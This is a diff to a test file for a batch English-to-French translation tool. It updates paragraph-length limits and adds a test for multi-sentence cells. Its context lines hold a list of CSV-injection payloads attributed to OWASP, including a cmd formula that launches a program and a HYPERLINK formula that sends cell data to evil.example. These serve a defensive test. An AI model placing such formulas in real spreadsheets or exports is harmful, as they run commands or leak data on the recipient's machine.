@@ -12,7 +12,7 @@ from model.batch_files import (
     BLANK_ROW, COLUMNS, MAX_BATCH_BYTES, MAX_BATCH_COLUMNS, MAX_BATCH_ROWS, PREVIEW_CELL_CHARS, BatchFileError,
     BatchRow, blank_rows, neutralise, output_columns, preview, read_batch_file, translate_rows, write_results_csv,
 )
-from model.validation import MAX_INPUT_CHARS
+from model.paragraph import MAX_PARAGRAPH_CHARS
 
 # Payloads from OWASP's CSV Injection page and the issue: each would run as a formula if written as is.
 FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(A1)", "-2+3+cmd|' /C calc'!A0",
@@ -85,7 +85,7 @@ def test_an_over_long_line_is_a_row_error_in_csv_as_in_txt(translator, tmp_path)
     for path in (as_txt, as_csv):
         rows = translate_rows(translator, read_batch_file(path), DecodeOptions())
         assert [r.english for r in rows] == ["Go.", long_line, "Hi."]
-        assert f"200,000 characters long; the limit is {MAX_INPUT_CHARS}" in rows[1].error and not rows[1].french
+        assert f"200,000 characters long; the limit is {MAX_PARAGRAPH_CHARS:,}" in rows[1].error and not rows[1].french
         assert rows[0].french == translator.translate("Go.").translation
 
 
@@ -239,3 +239,13 @@ def test_preview_of_results_has_the_output_columns(translator, tmp_path):
     headers, data = preview(rows, results=True)
     assert headers == COLUMNS
     assert data == [[1, "Go.", rows[0].french, rows[0].score, ""], [2, "", "", "", BLANK_ROW]]
+
+
+def test_a_row_of_several_sentences_is_translated_as_a_paragraph(tmp_path, translator):
+    upload = tmp_path / "paragraphs.csv"
+    upload.write_text('english\n"Go. Hi, Tom!"\n"Hi.\nWho?"\n', encoding="utf-8")
+    rows = translate_rows(translator, read_batch_file(upload), DecodeOptions())
+    go, tom, hi, who = (translator.translate(s) for s in ("Go.", "Hi, Tom!", "Hi.", "Who?"))
+    assert rows[0].french == f"{go.translation} {tom.translation}"
+    assert rows[1].french == f"{hi.translation}\n{who.translation}"  # the cell's line break is kept
+    assert rows[0].score == pytest.approx(go.score + tom.score, abs=1e-3)
